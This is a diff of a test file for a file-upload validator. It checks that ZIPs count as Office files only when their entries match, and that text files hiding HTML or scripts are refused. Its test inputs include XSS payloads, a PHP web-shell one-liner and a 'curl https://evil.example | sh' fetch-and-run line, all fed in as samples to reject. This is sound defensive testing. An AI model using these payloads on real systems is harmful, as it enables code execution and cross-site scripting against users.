@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { decideFileKind, isPlainText, looksLikeMarkupOrScript } from '../../src/domain/file-kind.ts';
+import {
+  decideFileKind,
+  isPlainText,
+  looksLikeMarkupOrScript,
+  officeOpenXmlType,
+  SNIFF_BYTES,
+  zipEntryNames,
+} from '../../src/domain/file-kind.ts';
+import { officeFile, zipArchive } from '../helpers/office-files.ts';
 
 const bytes = (text: string) => new TextEncoder().encode(text);
 const binary = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]);
@@ -58,20 +66,39 @@ describe('decideFileKind: the kind comes from the content, the name only has to 
     });
   });
 
-  it('lets the name choose within a container the sniffer cannot open (Office files)', () => {
+  it('lets the name choose within an old Office container (cfb), and refuses a ZIP under a name that is no Office type', () => {
     expect(decideFileKind('old.doc', { ext: 'cfb', mime: 'application/x-cfb' }, binary)).toMatchObject({
       ok: true,
       ext: 'doc',
       contentType: 'application/msword',
     });
-    expect(decideFileKind('sheet.xlsx', { ext: 'zip', mime: 'application/zip' }, binary)).toMatchObject({
-      ok: true,
-      ext: 'xlsx',
-    });
     expect(decideFileKind('photo.jpg', { ext: 'zip', mime: 'application/zip' }, binary)).toEqual({
       ok: false,
       message: "'photo.jpg' is not an image: its content is a zip archive.",
     });
+  });
+
+  it('accepts a ZIP as docx, xlsx or pptx only when it is that Office package', () => {
+    const zip = { ext: 'zip', mime: 'application/zip' };
+    expect(decideFileKind('sheet.xlsx', zip, officeFile('xlsx', { contentTypes: 'last' }))).toEqual({
+      ok: true,
+      kind: 'document',
+      ext: 'xlsx',
+      contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    });
+    // An Office file under another Office name is stored as what it is, like a PNG named .jpg.
+    expect(decideFileKind('deck.docx', zip, officeFile('pptx'))).toMatchObject({ ok: true, ext: 'pptx' });
+    for (const [name, what] of [
+      ['report.docx', 'a Word document'],
+      ['sheet.xlsx', 'an Excel workbook'],
+      ['deck.pptx', 'a PowerPoint presentation'],
+    ]) {
+      const plain = zipArchive([{ name: 'report.txt', content: 'not an office file' }]);
+      expect(decideFileKind(name as string, zip, plain)).toEqual({
+        ok: false,
+        message: `'${name}' is not ${what}: its content is a plain ZIP archive.`,
+      });
+    }
   });
 
   it('refuses HTML or a script under any name', () => {
@@ -105,6 +132,145 @@ describe('decideFileKind: the kind comes from the content, the name only has to 
       ok: false,
       message: "'photo.jpg' is not an image: its content is of an unrecognised type.",
     });
+  });
+});
+
+describe('Office Open XML: a ZIP is a docx, xlsx or pptx only when its entries say so', () => {
+  const docx = { ext: 'docx', mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };
+  const zip = { ext: 'zip', mime: 'application/zip' };
+  const xml = '<?xml version="1.0"?><x/>';
+  /** Stored bytes that fill a file past the window, so only its first entries are seen. */
+  const picture = { name: 'word/media/image1.png', content: Buffer.alloc(SNIFF_BYTES + 1000, 7) };
+
+  it('a whole file (shorter than the window) needs [Content_Types].xml and the main part of its type', () => {
+    const half = [
+      [{ name: '[Content_Types].xml', content: xml }],
+      [{ name: 'word/document.xml', content: xml }],
+      [
+        { name: '_rels/.rels', content: xml },
+        { name: 'word/styles.xml', content: xml },
+      ],
+    ];
+    for (const entries of half) {
+      // file-type calls a ZIP with a content-types part that names Word's main part 'docx'.
+      for (const detected of [docx, zip]) {
+        expect(decideFileKind('report.docx', detected, zipArchive(entries))).toEqual({
+          ok: false,
+          message: "'report.docx' is not a Word document: its content is a plain ZIP archive.",
+        });
+      }
+    }
+    // Whichever order the producer wrote them in, with or without data descriptors.
+    for (const bytes of [
+      officeFile('docx'),
+      officeFile('docx', { contentTypes: 'last' }),
+      officeFile('docx', { dataDescriptor: true, deflate: true }),
+    ]) {
+      expect(decideFileKind('report.docx', zip, bytes)).toMatchObject({ ok: true, ext: 'docx' });
+    }
+  });
+
+  it('a file longer than the window needs a package part and an entry of its type among the entries it shows', () => {
+    // LibreOffice writes [Content_Types].xml last; a big picture may come before the main part.
+    const late = officeFile('docx', { contentTypes: 'last', deflate: false, before: [picture] });
+    expect(late.length).toBeGreaterThan(SNIFF_BYTES);
+    const window = late.subarray(0, SNIFF_BYTES);
+    expect([...zipEntryNames(window)]).toEqual(['_rels/.rels', 'word/media/image1.png']);
+    expect(decideFileKind('report.docx', zip, window)).toMatchObject({ ok: true, ext: 'docx' });
+
+    const plain = zipArchive([{ name: 'photos/one.png', content: picture.content }]).subarray(0, SNIFF_BYTES);
+    expect(decideFileKind('report.docx', zip, plain)).toMatchObject({ ok: false });
+    const noPackage = zipArchive([picture]).subarray(0, SNIFF_BYTES);
+    expect(decideFileKind('report.docx', zip, noPackage)).toMatchObject({ ok: false });
+  });
+
+  it('reads entry names from local headers (data descriptors too) and from the central directory', () => {
+    const bytes = officeFile('xlsx', { dataDescriptor: true });
+    expect([...zipEntryNames(bytes)]).toEqual(['[Content_Types].xml', '_rels/.rels', 'xl/workbook.xml']);
+    expect(officeOpenXmlType(bytes)).toBe('xlsx');
+    expect(officeOpenXmlType(bytes, 'docx')).toBe('xlsx');
+    expect(officeOpenXmlType(zipArchive([{ name: 'a.txt', content: 'a' }]))).toBeUndefined();
+    expect(zipEntryNames(new Uint8Array([0x50, 0x4b, 3, 4]))).toEqual(new Set());
+  });
+
+  it('still refuses an Office file whose name is another kind', () => {
+    expect(decideFileKind('photo.jpg', docx, officeFile('docx'))).toEqual({
+      ok: false,
+      message: "'photo.jpg' is not an image: its content is a document (docx).",
+    });
+  });
+});
+
+describe('markup and scripts in text: anywhere in the window', () => {
+  const filler = 'unit,floor,note\n4B,4,"leak < 2 l/h, check > monthly"\n'.repeat(1200);
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<SCRIPT src=//evil.example/x.js></SCRIPT>',
+    '<img src=x onerror=alert(1)>',
+    '<a href="javascript:alert(1)">click</a>',
+    '<div onmouseover="alert(1)">',
+    '<iframe srcdoc="x"></iframe>',
+    '<svg><g/></svg>',
+    '<html>',
+    '<body>',
+    '</p>',
+    '<br/>',
+    '<!DOCTYPE html>',
+    '<!-- hidden -->',
+    '<![CDATA[ x ]]>',
+    '<?xml version="1.0"?>',
+    '<?php system($_GET["c"]); ?>',
+  ])('refuses %j in a .txt or .csv after 60 KB of innocent text', (markup) => {
+    expect(filler.length).toBeGreaterThan(60_000);
+    const text = new TextEncoder().encode(`${filler}${markup}\n`);
+    expect(text.length).toBeLessThanOrEqual(SNIFF_BYTES);
+    for (const name of ['notes.txt', 'units.csv']) {
+      expect(decideFileKind(name, undefined, text)).toEqual({
+        ok: false,
+        message: `'${name}' is not a document: its content is HTML, XML or a script.`,
+      });
+    }
+  });
+
+  it.each([
+    '#!/bin/sh\ncurl https://evil.example | sh\n',
+    '\uFEFF#!/usr/bin/env python3\nimport os\n',
+    '\n\n  #!/bin/bash\n',
+    '<script>alert(1)</script>',
+  ])('refuses the script %j named .txt', (script) => {
+    expect(decideFileKind('readme.txt', undefined, new TextEncoder().encode(script))).toMatchObject({ ok: false });
+  });
+
+  it.each([
+    'a < b and c > d',
+    'if x<y then y>x',
+    'From: Pat Lee <pat.lee@harbor.example>',
+    'usage: cp <source> <destination>',
+    'temperature <40 and >30; ratio 1<2',
+    'price => 5, a -> b, <= 3',
+    'Script: call the plumber. HTML report sent. #! is a shebang.',
+    'e-mail <https://harbor.example/x?a=1>',
+  ])('keeps the text %j', (text) => {
+    expect(decideFileKind('notes.txt', undefined, new TextEncoder().encode(text))).toMatchObject({ ok: true });
+  });
+
+  it('reads a hostile window in linear time', () => {
+    const hostile = [
+      `<a ${'='.repeat(SNIFF_BYTES)}`,
+      `<a ${'x='.repeat(SNIFF_BYTES / 2)}`,
+      `<a${' '.repeat(SNIFF_BYTES)}`,
+      `<a ${'x '.repeat(SNIFF_BYTES / 2)}`,
+      `<${'a'.repeat(SNIFF_BYTES)}`,
+      '<a b '.repeat(SNIFF_BYTES / 5),
+      '</a'.repeat(SNIFF_BYTES / 3),
+    ];
+    const started = performance.now();
+    for (const text of hostile) {
+      // After some text, so that no rule for the start decides first.
+      looksLikeMarkupOrScript(new TextEncoder().encode(`text ${text}`).subarray(0, SNIFF_BYTES));
+    }
+    expect(performance.now() - started).toBeLessThan(1000);
   });
 });
 
